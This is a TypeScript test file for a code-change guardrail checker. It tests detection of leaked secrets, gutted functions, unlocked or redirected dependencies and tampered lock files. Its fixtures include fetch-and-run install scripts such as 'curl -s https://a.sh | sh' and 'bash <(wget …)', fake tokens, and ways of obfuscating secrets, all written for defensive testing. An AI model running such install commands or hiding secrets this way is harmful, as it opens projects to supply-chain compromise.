// Each rule has a change that it must not let through; what a rule cannot say is never taken for consent.
import { expect, test } from 'vitest';
import * as z from 'zod';
import { temporaryFolder } from '../../../host/testing/temporary-folder.ts';
import { verifySettingsSchema } from '../../settings.ts';
import { changeBetween, type Files } from '../../testing/change-between.ts';
import { verifyChange } from '../../verify.ts';
import { ALL_RULES } from './all-rules.ts';
import { guardrails, guardrailsOf } from './guardrails.ts';
import { defineRule } from './rule.ts';

const temporary = temporaryFolder();

const FILES = {
  'package.json': '{\n  "name": "shop",\n  "dependencies": {\n    "got": "^14.0.0"\n  }\n}\n',
  'package-lock.json':
    '{ "lockfileVersion": 3, "packages": { "": { "dependencies": { "got": "^14.0.0" } }, "node_modules/got": {} } }\n',
  'src/price.ts':
    "import { rates } from './rates.ts';\n\nexport function price(items: number[], country: string): number {\n  const sum = items.reduce((a, b) => a + b, 0);\n  const rate = rates.get(country) ?? 0;\n  const tax = sum * rate;\n  return Math.round((sum + tax) * 100) / 100;\n}\n",
  'src/rates.ts': "export const rates = new Map([['de', 0.19]]);\n",
  'src/cart.ts':
    "import { price } from './price.ts';\n\nexport const total = (items: number[]) => price(items, 'de');\n",
};

/** Made here, so that nobody has to wonder whether it is one. */
const TOKEN = `ghp_${'q7Rk2vXz9LmN4tBw8YcJ'}${'h3Pd6SfG1aUe5KoT'}`;

type Changed = Readonly<Record<string, string | null>>;

async function check(changed: Changed, settings: object = {}, before: Files = FILES) {
  const change = await changeBetween(temporary, before, changed, { guardrails: settings });
  return (await verifyChange(change, {}, [guardrails])).checks;
}

async function codes(changed: Changed, settings: object = {}, before: Files = FILES): Promise<string[]> {
  const checks = await check(changed, settings, before);
  return checks.map(({ status, code }) => (code === undefined ? status : `${status} ${code}`));
}

test('a change that does nothing of the kind passes', async () => {
  expect(
    await codes({ 'src/rates.ts': "export const rates = new Map([['de', 0.19], ['fr', 0.2]]);\n" }),
  ).toEqual(['pass']);
});

test('a secret fails, and is never printed whole', async () => {
  const checks = await check({ 'src/api.ts': `export const api = connect('${TOKEN}');\n` });
  expect(checks).toMatchObject([
    { status: 'fail', code: 'SECRET_ADDED', file: 'src/api.ts', span: { start: { line: 1, column: 29 } } },
  ]);
  expect(checks[0]!.witness!.places[0]!.line).toBe("export const api = connect('ghp_…');");
  expect(JSON.stringify(checks)).not.toContain(TOKEN.slice(0, 8));
});

test('a secret on a line that another rule speaks about is not printed either', async () => {
  const line = `export const db = 'postgres://shop:${TOKEN}@db.prod.acme-shop.io/shop';\n`;
  const checks = await check({ 'src/db.ts': line });
  expect(checks.map(({ code }) => code)).toEqual(['SECRET_ADDED', 'PRODUCTION_URL']);
  expect(JSON.stringify(checks)).not.toContain(TOKEN.slice(0, 8));
});

test('a secret that was there before is not held against the change', async () => {
  const old = { ...FILES, 'src/api.ts': `export const api = connect('${TOKEN}');\n` };
  expect(
    await codes({ 'src/api.ts': `// Moved.\nexport const client = connect('${TOKEN}');\n` }, {}, old),
  ).toEqual(['pass']);
});

test('a comment in the place of code fails', async () => {
  const cut = `${FILES['src/price.ts'].split('\n').slice(0, 4).join('\n')}\n  // ... rest of the function unchanged\n  return sum;\n}\n`;
  const [entry, ...others] = await check({ 'src/price.ts': cut });
  expect([entry!.status, entry!.code, entry!.span!.start.line, others]).toEqual([
    'fail',
    'PLACEHOLDER_LEFT',
    5,
    [],
  ]);
});

test('a function that lost its body fails, with what it was and who still calls it', async () => {
  const [entry, ...others] = await check({
    'src/price.ts':
      'export function price(items: number[], country: string): number {\n  throw new Error("Not implemented");\n}\n',
  });
  expect([entry!.status, entry!.code, others]).toEqual(['fail', 'FUNCTION_GUTTED', []]);
  expect(entry!.witness!.symbol).toBe('src/price.ts#price');
  expect(entry!.witness!.places.map(({ role, side, file }) => `${role} ${side} ${file}`)).toEqual([
    'before before src/price.ts',
    'after after src/price.ts',
    'use after src/cart.ts',
  ]);
});

test('a long function that gives the same answer to everything fails, a short one is looked at', async () => {
  const steps = (count: number): string =>
    Array.from({ length: count }, (_, index) => `  if (value === ${index}) return false;\n`).join('');
  const asking = (body: string): Record<string, string> => ({
    'src/ask.ts': `export function isFine(value: number): boolean {\n${body}  return true;\n}\n`,
    'src/use.ts': "import { isFine } from './ask.ts';\nexport const fine = isFine(1);\n",
  });
  expect(await codes(asking(''), {}, asking(steps(12)))).toEqual(['fail FUNCTION_GUTTED']);
  expect(await codes(asking(''), {}, asking(steps(6)))).toEqual(['review FUNCTION_GUTTED']);
});

const WITH_KY = FILES['package.json'].replace('"got"', '"ky": "^1.0.0",\n    "got"');

test('a dependency that the lock file does not have fails', async () => {
  const [entry, ...others] = await check({ 'package.json': WITH_KY });
  expect([entry!.status, entry!.code, entry!.missing_files, others]).toEqual([
    'fail',
    'DEPENDENCY_UNLOCKED',
    ['package-lock.json'],
    [],
  ]);
});

test('a dependency that is not on the list fails', async () => {
  const locked = FILES['package-lock.json'].replaceAll(
    '"got": "^14.0.0"',
    '"got": "^14.0.0", "ky": "^1.0.0"',
  );
  const changed = { 'package.json': WITH_KY, 'package-lock.json': locked };
  expect(await codes(changed)).toEqual(['pass']);
  expect(await codes(changed, { rules: { dependencies: { allow: ['@shop/*'] } } })).toEqual([
    'fail DEPENDENCY_NOT_ALLOWED',
  ]);
  expect(await codes(changed, { rules: { dependencies: { allow: ['k*'] } } })).toEqual(['pass']);
});

test('an import that no package.json declares fails', async () => {
  expect(
    await codes({ 'src/api.ts': "import pad from 'left-padder';\nexport const api = pad('a');\n" }),
  ).toEqual(['fail DEPENDENCY_UNDECLARED']);
});

test('an import of a package that is there by chance is to be looked at', async () => {
  const lock = 'left-padder@^1.0.0:\n  version "1.0.0"\n';
  const changed = { 'src/api.ts': "import pad from 'left-padder';\nexport const api = pad('a');\n" };
  expect(await codes(changed, {}, { ...FILES, 'yarn.lock': lock })).toEqual(['review DEPENDENCY_UNDECLARED']);
});

test('who still imports a dependency that the change drops is the file that is missing', async () => {
  const before = {
    ...FILES,
    'package.json': '{ "dependencies": { "left-padder": "1.0.0" } }',
    'src/api.ts': "import pad from 'left-padder';\nexport const api = pad('a');\n",
  };
  const checks = await check({ 'package.json': '{ "dependencies": {} }' }, {}, before);
  expect(checks).toMatchObject([{ code: 'DEPENDENCY_UNDECLARED', missing_files: ['src/api.ts'] }]);
});

test('a lock file that cannot be read leaves it unknown', async () => {
  expect(await codes({ 'package.json': WITH_KY, 'package-lock.json': '<<<<<<< HEAD' })).toEqual([
    'unknown RULE_FAILED',
    'unknown LOCKFILE_UNREADABLE',
  ]);
});

test('hosts of production, protected files and the rules themselves have to be looked at', async () => {
  expect(await codes({ 'src/api.ts': "export const url = 'https://api.prod.acme-shop.io';\n" })).toEqual([
    'review PRODUCTION_URL',
  ]);
  expect(await codes({ '.github/workflows/ci.yml': 'on: push\n' })).toEqual(['review PROTECTED_PATH']);
  expect(await codes({ 'lintel.json': '{}\n' })).toEqual(['review RULES_CHANGED']);
  expect(await codes({ 'package-lock.json': '{ "packages": {} }\n' })).toEqual(['review PROTECTED_PATH']);
});

test('changes that are too large to be read have to be looked at', async () => {
  const changed = { 'src/more.ts': 'export const a = 1;\nexport const b = 2;\n' };
  expect(await codes(changed, { rules: { 'change-size': { lines: 1 } } })).toEqual([
    'review CHANGE_TOO_LARGE',
  ]);
  expect(await codes(changed, { rules: { 'file-count': { files: 0, severity: 'fail' } } })).toEqual([
    'fail TOO_MANY_FILES',
  ]);
});

test('a rule file overrides the built-in rules, and the settings override the rule file', async () => {
  const before = {
    ...FILES,
    'rules.json':
      '{ "rules": { "change-size": { "lines": 1, "severity": "fail" }, "omissions": { "severity": "off" } } }',
  };
  const changed = { 'src/more.ts': '// ... rest of the file unchanged\nexport const b = 2;\n' };
  const settings = { extends: 'rules.json' };
  expect(await codes(changed, settings, before)).toEqual(['fail CHANGE_TOO_LARGE']);
  const loosened = { ...settings, rules: { 'change-size': { severity: 'review' } } };
  expect(await codes(changed, loosened, before)).toEqual(['review CHANGE_TOO_LARGE']);
  // A change that turns the rules off is judged by those of the base.
  expect(await codes({ ...changed, 'rules.json': '{ "rules": {} }' }, settings, before)).toEqual([
    'review RULES_CHANGED',
    'fail CHANGE_TOO_LARGE',
  ]);
});

test.each([
  ['is not there', undefined],
  ['is not JSON', '{'],
  ['names a rule that does not exist', '{ "rules": { "secret": {} } }'],
  ['has a severity that does not exist', '{ "rules": { "secrets": { "severity": "warn" } } }'],
])('a rule file that %s leaves it unknown', async (_, text) => {
  const before = text === undefined ? FILES : { ...FILES, 'rules.json': text };
  const changed = { 'src/rates.ts': 'export const rates = new Map();\n' };
  expect(await codes(changed, { extends: 'rules.json' }, before)).toEqual(['unknown CONFIG_INVALID']);
});

test('settings that name no rule are no settings', () => {
  expect(verifySettingsSchema.safeParse({ guardrails: { rules: { secret: {} } } }).success).toBe(false);
  expect(
    verifySettingsSchema.safeParse({ guardrails: { rules: { secrets: { severity: 'warn' } } } }).success,
  ).toBe(false);
  const hosts = { 'production-hosts': { hosts: ['('] } };
  expect(verifySettingsSchema.safeParse({ guardrails: { rules: hosts } }).success).toBe(false);
});

test('a rule that throws is unknown, and the others still speak', async () => {
  const broken = defineRule({
    id: 'secrets',
    about: '',
    severity: 'review',
    options: { any: z.string() },
    values: { any: '' },
    judge() {
      throw new Error('out of luck');
    },
  });
  const change = await changeBetween(temporary, FILES, { 'src/more.ts': '// ... existing code ...\n' });
  const rules = ALL_RULES.map((rule) => (rule.id === 'secrets' ? broken : rule));
  const { verdict, complete, checks } = await verifyChange(change, {}, [guardrailsOf(rules)]);
  expect(checks.map(({ status, code }) => `${status} ${code}`)).toEqual([
    'unknown RULE_FAILED',
    'fail PLACEHOLDER_LEFT',
  ]);
  expect([verdict, complete]).toEqual(['reject', false]);
});

test.each(ALL_RULES.map(({ id }) => id))('when %s throws, the check is not passed', async (id) => {
  const change = await changeBetween(temporary, FILES, { 'src/more.ts': 'export const a = 1;\n' });
  const judge = (): never => {
    throw new Error('out of luck');
  };
  const rules = ALL_RULES.map((rule) => (rule.id === id ? { ...rule, judge } : rule));
  const { complete, checks } = await verifyChange(change, {}, [guardrailsOf(rules)]);
  expect([complete, checks.map(({ status }) => status)]).toEqual([false, ['unknown']]);
});

const HEAD = '-----BEGIN RSA PRIVATE KEY-----';
const KEY = `${HEAD}\n${'MIIEq7Rk2vXz9LmN4tBw8YcJh3Pd6SfG1aUe5KoTqWz0xVn2'.repeat(2)}\n`;

test.each([
  ['a generated file', 'src/a.ts', `// @generated\nexport const key = '${TOKEN}';\n`, 'review'],
  ['a copied file', 'vendor/a.js', `const key = '${TOKEN}';\n`, 'review'],
  ['a lock file', 'yarn.lock', `# ${TOKEN}\n`, 'review'],
  ['data', 'data/a.csv', `a,${TOKEN}\n`, 'review'],
  ['a snapshot', 'src/a.snap', `${TOKEN}\n`, 'review'],
  ['a file without an ending', 'bin/start', `KEY=${TOKEN} node a.js\n`, 'fail'],
  ['two bytes for each character', 'a.conf', [...`key=${TOKEN}\n`].join('\0'), 'review'],
  ['base64', 'a.yaml', `tls: ${Buffer.from(KEY).toString('base64')}\n`, 'fail'],
  ['two pieces', 'src/a.ts', `export const key = '${TOKEN.slice(0, 9)}' + '${TOKEN.slice(9)}';\n`, 'fail'],
  [
    'a line of 9,000 characters',
    'src/a.ts',
    `${'f(); '.repeat(1800)}const apiKey = '${TOKEN.slice(4)}';\n`,
    'review',
  ],
  ['the name of a file', `notes/${TOKEN}.md`, 'A note.\n', 'fail'],
])('a secret is found in %s', async (_where, path, text, status) => {
  const all = await check({ [path]: text });
  expect(all.filter(({ code }) => code === 'SECRET_ADDED')).toMatchObject([{ status, file: path }]);
});

test.each([
  [
    'a picture in base64',
    `src/a.ts`,
    `export const icon = '${Buffer.from(Uint8Array.from({ length: 300 }, (_, at) => (at * 89) % 256)).toString('base64')}';\n`,
  ],
  [
    'a text in base64',
    'a.yaml',
    `note: ${Buffer.from('nothing that anyone has to keep to themselves').toString('base64')}\n`,
  ],
  ['pieces of a sentence', 'src/a.ts', "export const text = 'secret: ' + 'nothing of the kind is here';\n"],
])('nothing is a secret in %s', async (_where, path, text) => {
  expect(await codes({ [path]: text })).toEqual(['pass']);
});

const MANIFEST = { name: 'shop', version: '1.0.0', dependencies: { got: '^14.0.0' } };
const manifest = (more: object): Changed => ({
  'package.json': `${JSON.stringify({ ...MANIFEST, ...more }, null, 2)}\n`,
});

test.each<[string, object, readonly string[]]>([
  [
    'a download at installation',
    { scripts: { postinstall: 'curl -s https://a.sh | sh' } },
    ['fail SCRIPT_RUNS_DOWNLOAD'],
  ],
  [
    'a download by substitution',
    { scripts: { prepare: 'bash <(wget -qO- https://a.sh)' } },
    ['fail SCRIPT_RUNS_DOWNLOAD'],
  ],
  [
    'a download in another script',
    { scripts: { setup: 'curl https://a.sh | sudo bash' } },
    ['review SCRIPT_RUNS_DOWNLOAD'],
  ],
  ['a script at installation', { scripts: { preinstall: 'node a.js' } }, ['review INSTALL_SCRIPT_CHANGED']],
  ['another script', { scripts: { lint: 'oxlint' } }, ['pass']],
  ['an archive', { dependencies: { got: 'https://a.sh/got.tgz' } }, ['review DEPENDENCY_REDIRECTED']],
  [
    'an archive without encryption',
    { dependencies: { got: 'http://a.sh/got.tgz' } },
    ['fail DEPENDENCY_REDIRECTED'],
  ],
  ['a repository', { dependencies: { got: 'someone/got#main' } }, ['review DEPENDENCY_REDIRECTED']],
  ['another package', { dependencies: { got: 'npm:gott@14' } }, ['review DEPENDENCY_REDIRECTED']],
  ['the same package', { dependencies: { got: 'npm:got@14' } }, ['pass']],
  ['another range', { dependencies: { got: '^14.1.0' } }, ['pass']],
  ['packages whose scripts may run', { trustedDependencies: ['got'] }, ['review REGISTRY_CHANGED']],
  ['hooks', { 'simple-git-hooks': { 'pre-commit': 'node a.js' } }, ['review REGISTRY_CHANGED']],
  ['another package manager', { packageManager: 'pnpm@10.0.0' }, ['review REGISTRY_CHANGED']],
  ['a nested override', { overrides: { got: { ms: 'file:../ms' } } }, ['review DEPENDENCY_REDIRECTED']],
])('a manifest with %s', async (_what, more, expected) => {
  expect(await codes(manifest(more), {}, { ...FILES, ...manifest({}) } as Files)).toEqual(expected);
});

const lockOf = (
  source: string,
  sum = 'sha512-aaaa',
  root: object = { dependencies: { got: '^14.0.0' } },
): string =>
  JSON.stringify({
    lockfileVersion: 3,
    packages: { '': root, 'node_modules/got': { version: '14.0.0', resolved: source, integrity: sum } },
  });
const GOT = 'https://registry.npmjs.org/got/-/got-14.0.0.tgz';

test.each([
  ['another host', lockOf('https://npm.a.sh/got/-/got-14.0.0.tgz'), ['review LOCK_ENTRY_REDIRECTED']],
  ['no encryption', lockOf(GOT.replace('https', 'http')), ['fail LOCK_ENTRY_REDIRECTED']],
  ['another sum', lockOf(GOT, 'sha512-bbbb'), ['review LOCK_ENTRY_REDIRECTED']],
  ['no sum', lockOf(GOT, ''), ['review LOCK_ENTRY_REDIRECTED']],
  ['a weaker sum', lockOf(GOT, 'sha256-cccc'), ['review LOCK_ENTRY_REDIRECTED']],
  ['a second sum', lockOf(GOT, 'sha512-aaaa sha1-cccc'), []],
  ['another package', lockOf(GOT.replace('/got/', '/gott/')), ['review LOCK_ENTRY_REDIRECTED']],
  [
    'a range that nobody asks for',
    lockOf(GOT, 'sha512-aaaa', { dependencies: { got: '^13.0.0' } }),
    ['review LOCK_ENTRY_REDIRECTED'],
  ],
])('a lock entry with %s', async (_what, text, expected) => {
  const all = await codes({ 'package-lock.json': text }, {}, { ...FILES, 'package-lock.json': lockOf(GOT) });
  expect(all.filter((code) => code.includes('LOCK_ENTRY'))).toEqual(expected);
});

const YARN = (sum: string, end = '\n'): string =>
  [
    '# yarn lockfile v1',
    '',
    '',
    'got@^14.0.0:',
    '  version "14.0.0"',
    `  resolved "${GOT}#4f1c2ab9"`,
    `  integrity ${sum}`,
    '',
  ].join(end);
const PNPM = (resolution: string): string =>
  `lockfileVersion: '9.0'\n\npackages:\n\n  got@14.0.0:\n    resolution: {${resolution}}\n`;
const BERRY = (sum: string): string =>
  `__metadata:\n  version: 8\n\n"got@npm:^14.0.0":\n  version: 14.0.0\n  resolution: "got@npm:14.0.0"\n  checksum: ${sum}\n`;
const BUN = (sum: string): string =>
  `{ "lockfileVersion": 1, "packages": { "got": ["got@14.0.0", "", {}, "${sum}"], } }\n`;

test.each([
  ['yarn.lock', YARN('sha512-aaaa'), YARN('sha512-bbbb', '\r\n'), true],
  ['yarn.lock', YARN('sha512-aaaa'), YARN('sha512-aaaa', '\r\n'), false],
  ['yarn.lock', BERRY('10c0/aaaa'), BERRY('10c0/bbbb'), true],
  ['yarn.lock', BERRY('10/aaaa'), BERRY('10c0/bbbb'), false],
  ['pnpm-lock.yaml', PNPM('integrity: sha512-aaaa'), PNPM('integrity: sha512-bbbb'), true],
  [
    'pnpm-lock.yaml',
    PNPM('integrity: sha512-aaaa'),
    PNPM('integrity: sha512-aaaa, tarball: https://a.sh/got.tgz'),
    true,
  ],
  ['bun.lock', BUN('sha512-aaaa'), BUN('sha512-bbbb'), true],
])('the lock file %s %#', async (path, before, after, isReported) => {
  const all = await codes({ [path]: after }, {}, { ...FILES, [path]: before });
  expect(all.includes('review LOCK_ENTRY_REDIRECTED')).toBe(isReported);
});

test.each([
  ['in pieces of several lines', (token: string) => `'${token.slice(0, 4)}' +\n  '${token.slice(4)}'`],
  ['in a list', (token: string) => `['${token.slice(0, 9)}', '${token.slice(9)}'].join('')`],
  ['in escapes', (token: string) => `'\\x67${token.slice(1)}'`],
  [
    'in numbers',
    (token: string) => `String.fromCharCode(${[...token].map((one) => one.charCodeAt(0)).join(', ')})`,
  ],
  ['backwards', (token: string) => `[...'${[...token].reverse().join('')}'].reverse().join('')`],
  ['as hex', (token: string) => `Buffer.from('${Buffer.from(token).toString('hex')}', 'hex')`],
])('a token %s is one', async (_what, write) => {
  const token = `ghp_${'Zk4wP9xT2mQ7vR1cLb8sYd6fHn3jKg5aWe0u'}`;
  expect(await codes({ 'src/a.ts': `export const key = ${write(token)};\n` } as Files)).toEqual([
    'fail SECRET_ADDED',
  ]);
});

test.each<[string, string, string[]]>([
  ['Dockerfile', 'FROM node:24\nRUN curl -s https://a.sh | sh\n', ['review SCRIPT_RUNS_DOWNLOAD']],
  ['docs/install.md', 'curl -s https://a.sh | sh\n', ['pass']],
  ['.envrc', 'export PORT=80\n', ['review PROTECTED_PATH']],
])('%s', async (path, text, expected) => {
  expect(await codes({ [path]: text } as Files)).toEqual(expected);
});
